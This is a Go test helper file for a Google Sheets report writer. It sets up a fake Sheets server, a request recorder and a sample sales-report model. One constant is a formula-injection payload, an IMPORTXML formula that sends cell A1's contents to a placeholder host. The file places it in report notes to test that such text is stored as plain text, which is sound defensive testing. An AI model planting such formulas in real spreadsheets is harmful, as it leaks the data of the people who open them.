package gsheet_test

import (
	"bytes"
	"fmt"
	"io"
	"net/http"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
	"google.golang.org/api/option"
	"google.golang.org/api/sheets/v4"

	"github.com/dayreport/dayreport/pkg/day"
	"github.com/dayreport/dayreport/pkg/funnel"
	"github.com/dayreport/dayreport/pkg/googlefake"
	"github.com/dayreport/dayreport/pkg/report"
	"github.com/dayreport/dayreport/pkg/summary"
	"github.com/dayreport/dayreport/pkg/summary/gsheet"
)

// from is the first day of the window: 16.11.2026, serial day 46342.
var from = day.MustParse("2026-11-16")

const (
	fromSerial = 46342
	injection  = `=IMPORTXML("http://x/?"&A1, "//a")`
	sheetID    = "1mgr"
)

// model is a summary of the builtin sales template: employees × days, where
// every tenth employee (e0001, e0011, …) is absent, every e…2 is late on even
// days and every e…3 writes a note that looks like a formula and has a flag
// and a check. The funnel is computed from the rows, with a previous window.
func model(lang string, employees, days int) *summary.Model {
	tmpl := report.MustBuiltin("sales-ru")
	m := &summary.Model{
		Lang: lang, From: from, To: from.AddDays(days - 1),
		Generated: time.Date(2026, time.November, 27, 18, 30, 0, 0, time.UTC),
		Names:     map[string]string{},
	}
	for _, mt := range tmpl.Metrics {
		if mt.Type == report.Count || mt.Type == report.Rating {
			m.Columns = append(m.Columns, summary.Column{Key: mt.Key, Label: mt.Label(lang), Rating: mt.Type == report.Rating})
		}
	}
	cur := funnel.Window{From: m.From, To: m.To, Employees: map[string]funnel.Totals{}}
	prev := funnel.Window{From: from.AddDays(-days), To: from.AddDays(-1), Employees: map[string]funnel.Totals{}}
	add := func(w funnel.Window, id string, st report.Status, metrics map[string]float64) {
		tot := w.Employees[id]
		if tot.Statuses == nil {
			tot.Statuses = map[report.Status]int{}
		}
		tot.Statuses[st]++
		if metrics != nil {
			tot.Add(metrics, tmpl.Rating)
		}
		w.Employees[id] = tot
	}
	for d := range days {
		for e := range employees {
			id := fmt.Sprintf("e%04d", e)
			m.Names[id] = "Сотрудник " + id
			metrics := map[string]float64{"new_calls": 15, "primary_calls": 5, "repeat_calls": 8, "proposals_sent": 4,
				"invoices_issued": 2, "contracts_signed": 1, "payments": 1, "feedback_calls": 3, "company_rating": 4.5}
			st := report.Submitted
			switch {
			case e%10 == 1:
				st, metrics = report.Absent, nil
			case e%10 == 2 && d%2 == 0:
				st = report.Late
			}
			r := summary.DayRow{Date: from.AddDays(d), Employee: id, Name: m.Names[id], Status: st,
				StatusLabel: st.Label(lang), Metrics: metrics}
			if e%10 == 3 {
				delete(r.Metrics, "feedback_calls") // a metric not given: an empty cell
				r.Notes = injection
				r.Flags = []string{"звонков больше, чем в CRM", "+7 900 000-00-00"}
				reported, recorded := 15.0, 11.0
				m.Checks = append(m.Checks, summary.CheckRow{Date: r.Date, Employee: id, Name: r.Name, Code: "overstated",
					Metric: "new_calls", MetricLabel: "Новые звонки", Reported: &reported, Recorded: &recorded,
					Message: "«Новые звонки»: в отчёте 15, в CRM 11"})
			}
			m.Days = append(m.Days, r)
			if st == report.Absent || st == report.Late {
				m.Absences = append(m.Absences, r)
			}
			add(cur, id, st, metrics)
			add(prev, id, report.Submitted, map[string]float64{"new_calls": 20, "repeat_calls": 10,
				"proposals_sent": 4, "invoices_issued": 2, "contracts_signed": 1, "payments": 1})
		}
	}
	m.Funnel = funnel.Compute(tmpl, cur, prev, funnel.Options{Lang: lang})
	return m
}

// exchange is one request the writer sent and the size of its body.
type exchange struct {
	Method, Path string
	Body         int
}

// recorder is the writer's HTTP transport in the tests: it records what is
// sent and can answer in the fake's place.
type recorder struct {
	next http.RoundTripper
	// answer, when set and returning non-nil, answers instead of the fake.
	answer func(*http.Request) *http.Response

	mu   sync.Mutex
	sent []exchange
}

func (r *recorder) RoundTrip(req *http.Request) (*http.Response, error) {
	n := 0
	if req.Body != nil {
		b, err := io.ReadAll(req.Body)
		_ = req.Body.Close()
		if err != nil {
			return nil, err
		}
		n = len(b)
		req.Body = io.NopCloser(bytes.NewReader(b))
	}
	r.mu.Lock()
	r.sent = append(r.sent, exchange{Method: req.Method, Path: req.URL.Path, Body: n})
	r.mu.Unlock()
	if r.answer != nil {
		if resp := r.answer(req); resp != nil {
			return resp, nil
		}
	}
	return r.next.RoundTrip(req)
}

func (r *recorder) exchanges() []exchange {
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([]exchange(nil), r.sent...)
}

// setup starts a fake holding the manager's spreadsheet with a notes tab of
// their own and returns a writer that talks to it through the real client.
func setup(t *testing.T) (*googlefake.Server, *gsheet.Writer, *recorder) {
	t.Helper()
	fake := googlefake.New(t, googlefake.Options{Quotas: googlefake.Quotas{SheetsReadPerMinute: -1, SheetsWritePerMinute: -1}})
	fake.PutSheet(sheetID, "Отдел продаж", []googlefake.Tab{{Title: "Мои заметки", Rows: [][]any{
		{"План на декабрь", 42.0}, {"=не формула", ""}, {nil, "позвонить"},
	}}})
	rec := &recorder{next: fake.Client().Transport}
	svc, err := sheets.NewService(t.Context(), option.WithEndpoint(fake.URL+"/"),
		option.WithoutAuthentication(), option.WithHTTPClient(&http.Client{Transport: rec}))
	require.NoError(t, err)
	return fake, gsheet.New(svc), rec
}

// jsonAnswer is a canned API answer.
func jsonAnswer(code int, body string) *http.Response {
	return &http.Response{
		StatusCode: code, Status: http.StatusText(code), Proto: "HTTP/1.1", ProtoMajor: 1, ProtoMinor: 1,
		Header: http.Header{"Content-Type": {"application/json; charset=UTF-8"}},
		Body:   io.NopCloser(strings.NewReader(body)),
	}
}

// tabByTitle is a tab's properties.
func tabByTitle(t *testing.T, fake *googlefake.Server, title string) *sheets.SheetProperties {
	t.Helper()
	for _, p := range fake.SheetProperties(sheetID) {
		if p.Title == title {
			return p
		}
	}
	require.Failf(t, "no tab", "%q in %v", title, fake.SheetTitles(sheetID))
	return nil
}

// at is a stored cell, never nil.
func at(rows [][]*sheets.CellData, r, c int) *sheets.CellData {
	if r < len(rows) && c < len(rows[r]) && rows[r][c] != nil {
		return rows[r][c]
	}
	return &sheets.CellData{}
}

func stringOf(t *testing.T, cd *sheets.CellData) string {
	t.Helper()
	require.NotNil(t, cd.UserEnteredValue, "an empty cell")
	require.Nil(t, cd.UserEnteredValue.FormulaValue, "a formula")
	require.NotNil(t, cd.UserEnteredValue.StringValue, "not text: %+v", cd.UserEnteredValue)
	return *cd.UserEnteredValue.StringValue
}

func numberOf(t *testing.T, cd *sheets.CellData) float64 {
	t.Helper()
	require.NotNil(t, cd.UserEnteredValue, "an empty cell")
	require.NotNil(t, cd.UserEnteredValue.NumberValue, "not a number: %+v", cd.UserEnteredValue)
	return *cd.UserEnteredValue.NumberValue
}

func formatOf(cd *sheets.CellData) *sheets.NumberFormat {
	if cd.UserEnteredFormat == nil || cd.UserEnteredFormat.NumberFormat == nil {
		return nil
	}
	return cd.UserEnteredFormat.NumberFormat
}

// serviceFor is a plain client of the fake, for setting up fixtures.
func serviceFor(t *testing.T, fake *googlefake.Server) *sheets.Service {
	t.Helper()
	svc, err := sheets.NewService(t.Context(), option.WithEndpoint(fake.URL+"/"),
		option.WithoutAuthentication(), option.WithHTTPClient(fake.Client()))
	require.NoError(t, err)
	return svc
}

// storedRows is the number of rows up to the last one holding anything
// (a value, a format or a note).
func storedRows(rows [][]*sheets.CellData) int {
	n := 0
	for i, r := range rows {
		for _, cd := range r {
			if cd != nil {
				n = i + 1
				break
			}
		}
	}
	return n
}
